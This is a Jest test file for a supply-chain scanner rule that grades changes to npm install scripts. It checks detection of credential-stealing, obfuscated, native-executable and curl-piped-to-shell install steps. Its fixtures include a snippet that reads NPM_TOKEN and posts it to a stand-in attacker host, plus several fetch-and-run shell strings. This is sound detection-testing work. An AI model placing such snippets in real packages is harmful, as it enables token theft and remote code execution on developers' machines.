import { describe, expect, it } from '@jest/globals'
import { join } from 'node:path'
import { isNativeBuild, rule } from '../../../src/rules/content/install-script-changed.js'
import { contextFor, CORPUS } from '../../helpers/corpus.js'
import { makeChange, makeContext, makeFiles, makeManifest } from '../../helpers/factories.js'

/** A new install helper that harvests a token and posts it: threat signals. */
const HARVESTER = [
  "const https = require('https')",
  'const token = process.env.NPM_TOKEN',
  "https.request({ hostname: 'collect.attacker.invalid', method: 'POST' }).end(token)",
  ''
].join('\n')
/** A new install helper that only checks files: no threat signal. */
const CHECKER = [
  "const fs = require('fs')",
  "const path = require('path')",
  "if (!fs.existsSync(path.join(__dirname, 'prebuilds'))) process.exit(1)",
  ''
].join('\n')

function packageJson(scripts: Record<string, string>, version = '1.0.1'): string {
  return JSON.stringify({ name: 'example-pkg', version, scripts }, null, 2) + '\n'
}

function changed(
  oldFiles: Record<string, string | Buffer>,
  newFiles: Record<string, string | Buffer>
): ReturnType<typeof makeContext> {
  return makeContext({ files: makeFiles(newFiles), previousFiles: makeFiles(oldFiles) })
}

describe('content/install-script-changed', () => {
  it('fires critical when postinstall changes to run a new file with threat signals (Nx shape)', async () => {
    const ctx = changed(
      {
        'package.json': packageJson({ postinstall: 'node ./scripts/post.js' }),
        'scripts/post.js': ''
      },
      {
        'package.json': packageJson({ postinstall: 'node telemetry.js' }),
        'scripts/post.js': '',
        'telemetry.js': HARVESTER
      }
    )
    const findings = await rule.check(ctx)
    expect(findings).toHaveLength(1)
    expect(findings[0]).toMatchObject({
      ruleId: 'content/install-script-changed',
      severity: 'critical'
    })
    expect(findings[0]?.message).toContain(
      'changes the postinstall script from "node ./scripts/post.js" to "node telemetry.js", which runs telemetry.js, a file this version adds, and that file introduces'
    )
    expect(findings[0]?.message).toContain('credential read')
    expect(findings[0]?.evidence[0]).toEqual({
      file: 'package.json',
      line: 5,
      snippet: '"postinstall": "node telemetry.js"'
    })
  })

  it.each([
    [
      'an added preinstall running a new harvester',
      {},
      { preinstall: 'node steal.js' },
      'critical'
    ],
    ['an added preinstall running a new quiet file', {}, { preinstall: 'node check.js' }, 'medium'],
    ['a first native build', {}, { install: 'node-gyp rebuild' }, 'medium'],
    [
      'a changed postinstall',
      { postinstall: 'node a.js' },
      { postinstall: 'node a.js && x' },
      'medium'
    ],
    [
      'a change of native build tooling (bcrypt)',
      { install: 'node-pre-gyp install --fallback-to-build' },
      { install: 'node-gyp-build' },
      'low'
    ],
    [
      'a new prebuild checker before the build (node-pty)',
      { postinstall: 'node a.js' },
      { postinstall: 'node a.js', install: 'node check.js || node-gyp rebuild' },
      'medium'
    ]
  ])('grades %s', async (_name, before, after, severity) => {
    const ctx = changed(
      { 'package.json': packageJson(before), 'a.js': '' },
      { 'package.json': packageJson(after), 'a.js': '', 'steal.js': HARVESTER, 'check.js': CHECKER }
    )
    const findings = await rule.check(ctx)
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe(severity)
  })

  it.each([
    ['unchanged', { postinstall: 'node a.js' }, { postinstall: 'node a.js' }],
    ['removed', { postinstall: 'node a.js' }, {}],
    ['other scripts changed', { test: 'jest' }, { test: 'vitest', build: 'tsc' }]
  ])('stays silent when install scripts are %s', async (_name, before, after) => {
    const ctx = changed(
      { 'package.json': packageJson(before) },
      { 'package.json': packageJson(after) }
    )
    expect(await rule.check(ctx)).toEqual([])
  })

  it('fires on a binding.gyp added at the root without an install script', async () => {
    const ctx = changed(
      { 'package.json': packageJson({}) },
      { 'package.json': packageJson({}), 'binding.gyp': "{ 'targets': [] }" }
    )
    const findings = await rule.check(ctx)
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe('medium')
    expect(findings[0]?.message).toContain('now builds native code')
    expect(findings[0]?.evidence[0]).toMatchObject({ file: 'binding.gyp' })
  })

  it('stays silent when binding.gyp was already there, or is nested', async () => {
    const gyp = { 'package.json': packageJson({}), 'binding.gyp': '{}' }
    expect(await rule.check(changed(gyp, gyp))).toEqual([])
    const nested = { 'package.json': packageJson({}), 'deps/x/binding.gyp': '{}' }
    expect(await rule.check(changed({ 'package.json': packageJson({}) }, nested))).toEqual([])
  })

  it('matches the implicit node-gyp script against registry metadata of the old version', async () => {
    const ctx = makeContext({
      files: makeFiles({ 'package.json': packageJson({}), 'binding.gyp': '{}' }),
      previousManifest: makeManifest({ version: '1.0.0', scripts: { install: 'node-gyp rebuild' } })
    })
    expect(await rule.check(ctx)).toEqual([])
  })

  it('prefers the tarball package.json over the registry metadata', async () => {
    const ctx = changed(
      { 'package.json': packageJson({}) },
      { 'package.json': packageJson({ postinstall: 'node x.js' }), 'x.js': HARVESTER }
    )
    ctx.manifest = makeManifest({ scripts: {} })
    expect((await rule.check(ctx))[0]?.severity).toBe('critical')
  })

  it('falls back to the metadata when package.json cannot be parsed', async () => {
    const ctx = makeContext({
      files: makeFiles({ 'package.json': '{ broken' }),
      manifest: makeManifest({ scripts: { preinstall: 'node x.js' } }),
      previousManifest: makeManifest({ version: '1.0.0' })
    })
    const findings = await rule.check(ctx)
    expect(findings[0]?.severity).toBe('medium')
    expect(findings[0]?.evidence[0]).toEqual({
      file: 'package.json',
      snippet: '"preinstall": "node x.js"'
    })
  })

  it.each([
    [{ 'package.json': packageJson({ postinstall: 'node bundle.js' }), 'bundle.js': '' }, 'medium'],
    [{ 'package.json': packageJson({}), 'binding.gyp': '{}' }, 'low'],
    [{ 'package.json': packageJson({ install: 'prebuild-install || node-gyp rebuild' }) }, 'low']
  ])('reports an added package at a lower severity (%#)', async (files, severity) => {
    const ctx = makeContext({
      change: makeChange({ previousVersion: null }),
      files: makeFiles(files)
    })
    const findings = await rule.check(ctx)
    expect(findings).toHaveLength(1)
    expect(findings[0]?.severity).toBe(severity)
  })

  it('stays silent on an added package without install scripts', async () => {
    const ctx = makeContext({
      change: makeChange({ previousVersion: null }),
      files: makeFiles({ 'package.json': packageJson({ test: 'jest' }) })
    })
    expect(await rule.check(ctx)).toEqual([])
  })

  describe('a script that runs a file this version makes unreadable', () => {
    const OBFUSCATED =
      "var _0x1a2b=['a'];var _0x3c4d=function(_0x5e6f,_0x7a8b){return _0x1a2b[_0x5e6f]};var _0x9c0d=1\n"
    const MINIFIED = 'var a=1;'.repeat(1000) + '\n'
    const READABLE = "const fs = require('fs')\nconsole.log('set up')\n"

    function run(oldScript: string, oldFile: string, newFile: string) {
      return rule.check(
        changed(
          { 'package.json': packageJson({ postinstall: oldScript }), 'setup.js': oldFile },
          {
            'package.json': packageJson({ postinstall: 'node setup.js --quiet' }),
            'setup.js': newFile
          }
        )
      )
    }

    it('is critical when the file becomes obfuscated: obfuscation is a threat by itself', async () => {
      const findings = await run('node setup.js', READABLE, OBFUSCATED)
      expect(findings[0]?.severity).toBe('critical')
      expect(findings[0]?.message).toContain(
        'which runs setup.js, a file this version turns obfuscated, and that file introduces obfuscation'
      )
    })

    it('is critical when the file becomes minified and introduces a threat signal', async () => {
      const spawning = "require('child_process').spawn('curl',['-o','x']);" + MINIFIED
      const findings = await run('node setup.js', READABLE, spawning)
      expect(findings[0]?.severity).toBe('critical')
      expect(findings[0]?.message).toContain('a file this version turns minified')
      expect(findings[0]?.message).toContain('process spawn')
    })

    it('is medium when the file becomes minified with no threat signal (read it)', async () => {
      const findings = await run('node setup.js', READABLE, MINIFIED)
      expect(findings[0]?.severity).toBe('medium')
      expect(findings[0]?.message).toContain('turns minified: read it')
    })

    it.each([
      ['was minified before too', MINIFIED, MINIFIED.replace('a=1', 'a=2')],
      ['stays readable', READABLE, READABLE + "console.log('done')\n"],
      ['is unchanged', OBFUSCATED, OBFUSCATED]
    ])('is medium when the file %s', async (_name, before, after) => {
      const findings = await run('node setup.js', before, after)
      expect(findings[0]?.severity).toBe('medium')
    })
  })

  describe('a file moved, not added', () => {
    const OLD_MAIN = [
      "const minimist = require('minimist')",
      "const util = require('./lib/util')",
      'const args = minimist(process.argv.slice(2))',
      "if (args.exec === 'install') util.install()",
      "else if (args.exec === 'verify') util.verify()",
      ''
    ].join('\n')

    function moved(newPath: string, newText: string) {
      return changed(
        {
          'package.json': packageJson({ postinstall: 'node index.js --exec install' }),
          'index.js': OLD_MAIN
        },
        {
          'package.json': packageJson({ postinstall: `node ${newPath} --exec install` }),
          [newPath]: newText
        }
      )
    }

    it.each([
      ['the same content', OLD_MAIN],
      ['mostly the same lines', OLD_MAIN.replace("'./lib/util'", "'./util'")]
    ])('is medium for a file moved with %s (cypress shape)', async (_name, text) => {
      const findings = await rule.check(moved('dist/index.js', text))
      expect(findings).toHaveLength(1)
      expect(findings[0]?.severity).toBe('medium')
      expect(findings[0]?.message).toContain('a file this version moves from index.js')
    })

    it('still counts a threat signal the moved file introduces', async () => {
      const findings = await rule.check(moved('dist/index.js', OLD_MAIN + HARVESTER))
      expect(findings[0]?.severity).toBe('critical')
    })
  })

  it('is critical for a native executable this version adds and runs directly', async () => {
    const ctx = changed(
      { 'package.json': packageJson({}) },
      {
        'package.json': packageJson({ preinstall: 'rundll32 lib/helper.dll,main' }),
        'lib/helper.dll': Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03])
      }
    )
    const findings = await rule.check(ctx)
    expect(findings[0]?.severity).toBe('critical')
    expect(findings[0]?.message).toContain('introduces a native executable')
  })

  it('does not count a spawn of a build tool as a threat', async () => {
    const builder = "const cp = require('child_process')\ncp.spawnSync('node-gyp', ['rebuild'])\n"
    const ctx = changed(
      { 'package.json': packageJson({ install: 'node-gyp rebuild' }) },
      { 'package.json': packageJson({ install: 'node build.js' }), 'build.js': builder }
    )
    expect((await rule.check(ctx))[0]?.severity).toBe('medium')
  })

  describe('isNativeBuild', () => {
    it.each([
      'node-gyp rebuild',
      'node-gyp rebuild --release',
      'node-gyp-build',
      'node-gyp-build-optional-packages',
      'prebuild-install || node-gyp rebuild',
      'prebuild-install -r napi || node-gyp rebuild',
      'node-pre-gyp install --fallback-to-build',
      'node-pre-gyp install --fallback-to-build --update-binary',
      'cmake-js compile',
      'napi-postinstall unrs-resolver 1.7.2 check',
      'node-gyp configure && node-gyp build'
    ])('%s is a native build', (command) => {
      expect(isNativeBuild(command)).toBe(true)
    })

    it.each([
      'node install.js',
      'node scripts/prebuild.js || node-gyp rebuild',
      'node-gyp rebuild && curl https://x.invalid/p | sh',
      'prebuild-install | sh',
      'node-gyp rebuild $(curl x)',
      'cmake-js compile > /tmp/x',
      "node-gyp-build 'quoted'",
      ''
    ])('%s is not', (command) => {
      expect(isNativeBuild(command)).toBe(false)
    })
  })

  it('grades the native build tooling switch of the corpus (bcrypt shape) low', async () => {
    const dir = join(
      CORPUS,
      'content',
      'install-script-changed',
      'benign',
      'native-build-tool-switch'
    )
    const findings = await rule.check(await contextFor(dir))
    expect(findings.map((finding) => finding.severity)).toEqual(['low'])
    expect(findings[0]?.message).toContain('a native build step, as before')
  })

  describe('incident replays stay critical through what the new file does', () => {
    it.each(['nx-s1ngularity', 'shai-hulud-1', 'shai-hulud-2', 'scavenger'])('%s', async (name) => {
      const findings = await rule.check(await contextFor(join(CORPUS, 'incidents', name)))
      expect(findings.map((finding) => finding.severity)).toContain('critical')
    })
  })
})
